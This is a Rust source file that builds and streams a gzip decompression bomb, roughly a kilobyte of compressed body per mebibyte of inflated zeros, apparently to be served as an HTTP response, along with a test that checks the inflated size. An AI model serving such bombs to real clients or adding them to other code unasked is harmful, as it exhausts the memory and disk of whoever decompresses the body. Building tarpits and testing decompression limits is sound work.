//! A gzip body of about a kilobyte per inflated mebibyte of zeros.
//!
//! One mebibyte of zeros is deflated once, ending with a full flush: the flush
//! byte-aligns the output and forgets the history, so the same bytes can be
//! repeated any number of times and still form one valid deflate stream. The
//! body is streamed as header + that unit N times + an empty final block +
//! the CRC-32 and length trailer, so serving it costs almost no memory.

use bytes::Bytes;
use flate2::{Compress, Compression, Crc, FlushCompress};
use futures_util::stream::{self, Stream};

const UNIT_LEN: usize = 1 << 20;
const GZIP_HEADER: [u8; 10] = [0x1f, 0x8b, 0x08, 0, 0, 0, 0, 0, 0x02, 0xff];
/// A final fixed-Huffman block holding only the end-of-block code.
const FINAL_EMPTY_BLOCK: [u8; 2] = [0x03, 0x00];

pub struct GzipBomb {
    unit: Bytes,
    unit_crc: Crc,
}

impl GzipBomb {
    pub fn new() -> anyhow::Result<GzipBomb> {
        let zeros = vec![0u8; UNIT_LEN];
        let mut compress = Compress::new(Compression::best(), false);
        let mut out = Vec::with_capacity(4096);
        // Bounded: deflating 1 MiB of zeros takes a handful of rounds.
        for _ in 0..1000 {
            let consumed = usize::try_from(compress.total_in())?;
            compress.compress_vec(&zeros[consumed..], &mut out, FlushCompress::Full)?;
            let all_in = usize::try_from(compress.total_in())? == UNIT_LEN;
            // The flush is complete once a call leaves spare room in the buffer.
            if all_in && out.len() < out.capacity() {
                let mut unit_crc = Crc::new();
                unit_crc.update(&zeros);
                return Ok(GzipBomb {
                    unit: Bytes::from(out),
                    unit_crc,
                });
            }
            out.reserve(4096);
        }
        anyhow::bail!("deflating the gzip bomb unit did not finish")
    }

    /// Length of the gzip body that inflates to `mebibytes` MiB.
    pub fn body_len(&self, mebibytes: u32) -> u64 {
        let units = u64::from(mebibytes) * u64::try_from(self.unit.len()).unwrap_or(u64::MAX);
        units + 10 + 2 + 8
    }

    /// The body, in chunks, inflating to `mebibytes` MiB of zeros.
    pub fn body(
        &self,
        mebibytes: u32,
    ) -> impl Stream<Item = Result<Bytes, std::io::Error>> + use<> {
        let mut crc = Crc::new();
        for _ in 0..mebibytes {
            crc.combine(&self.unit_crc);
        }
        let mut trailer = Vec::with_capacity(8);
        trailer.extend_from_slice(&FINAL_EMPTY_BLOCK);
        trailer.extend_from_slice(&crc.sum().to_le_bytes());
        // ISIZE is the inflated length modulo 2^32.
        trailer.extend_from_slice(&crc.amount().to_le_bytes());
        let unit = self.unit.clone();
        let units = (0..mebibytes).map(move |_| unit.clone());
        let chunks = std::iter::once(Bytes::from_static(&GZIP_HEADER))
            .chain(units)
            .chain(std::iter::once(Bytes::from(trailer)));
        stream::iter(chunks.map(Ok))
    }
}

#[cfg(test)]
mod tests {
    use std::io::Read;

    use futures_util::StreamExt;

    use super::*;

    #[tokio::test]
    async fn inflates_to_the_promised_size_with_a_valid_trailer() {
        let bomb = GzipBomb::new().unwrap();
        assert!(bomb.unit.len() < 4096, "unit is {} bytes", bomb.unit.len());
        let body: Vec<Bytes> = bomb.body(3).map(Result::unwrap).collect().await;
        let body: Vec<u8> = body.concat();
        assert_eq!(u64::try_from(body.len()).unwrap(), bomb.body_len(3));
        let mut decoder = flate2::read::GzDecoder::new(&body[..]);
        let mut inflated = Vec::new();
        // read_to_end also checks the CRC and length in the trailer
        decoder.read_to_end(&mut inflated).unwrap();
        assert_eq!(inflated.len(), 3 * UNIT_LEN);
        assert!(inflated.iter().all(|b| *b == 0));
    }
}
